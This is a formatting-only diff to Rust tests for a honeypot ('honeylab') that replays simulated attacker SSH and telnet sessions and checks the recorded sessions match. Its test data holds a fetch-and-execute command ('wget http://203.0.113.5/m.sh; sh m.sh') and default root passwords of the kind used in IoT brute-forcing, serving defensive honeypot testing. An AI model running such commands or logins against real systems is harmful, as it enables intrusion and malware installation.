@@ -21,7 +21,8 @@ fn meta() -> WireSessionMeta {
 /// Runs the same attacker behaviour over both paths and diffs the records.
 fn assert_paths_agree(logins: Vec<(&str, &str)>, commands: Vec<&str>) {
     let store = |uri: &str| -> Option<Vec<u8>> {
-        uri.contains("203.0.113.5").then(|| format!("#!{uri}\n").into_bytes())
+        uri.contains("203.0.113.5")
+            .then(|| format!("#!{uri}\n").into_bytes())
     };
 
     let passwords: Vec<&str> = logins.iter().map(|(_, p)| *p).collect();
@@ -39,7 +40,10 @@ fn assert_paths_agree(logins: Vec<(&str, &str)>, commands: Vec<&str>) {
         protocol: Protocol::Ssh,
         start: Date::new(2022, 8, 1).at(6, 0, 0),
         client_version: wire.client_version.clone(),
-        logins: logins.iter().map(|(u, p)| (u.to_string(), p.to_string())).collect(),
+        logins: logins
+            .iter()
+            .map(|(u, p)| (u.to_string(), p.to_string()))
+            .collect(),
         commands: commands.iter().map(|c| c.to_string()).collect(),
         idle_out: false,
     });
@@ -108,9 +112,13 @@ fn telnet_wire_equals_bulk() {
     use honeylab::honeypot::wire_telnet::{run_telnet_session, TelnetSessionMeta};
     use honeylab::telwire::TelnetScript;
     let store = |uri: &str| -> Option<Vec<u8>> {
-        uri.contains("203.0.113.5").then(|| format!("#!{uri}\n").into_bytes())
+        uri.contains("203.0.113.5")
+            .then(|| format!("#!{uri}\n").into_bytes())
     };
-    let logins = vec![("root".to_string(), "root".to_string()), ("root".to_string(), "tv".to_string())];
+    let logins = vec![
+        ("root".to_string(), "root".to_string()),
+        ("root".to_string(), "tv".to_string()),
+    ];
     let commands = vec![
         "cd /tmp".to_string(),
         "wget http://203.0.113.5/m.sh; sh m.sh".to_string(),
@@ -124,7 +132,10 @@ fn telnet_wire_equals_bulk() {
     };
     let (wire, _) = run_telnet_session(
         &tmeta,
-        TelnetScript { logins: logins.clone(), commands: commands.clone() },
+        TelnetScript {
+            logins: logins.clone(),
+            commands: commands.clone(),
+        },
         AuthPolicy::default(),
         &store,
     )
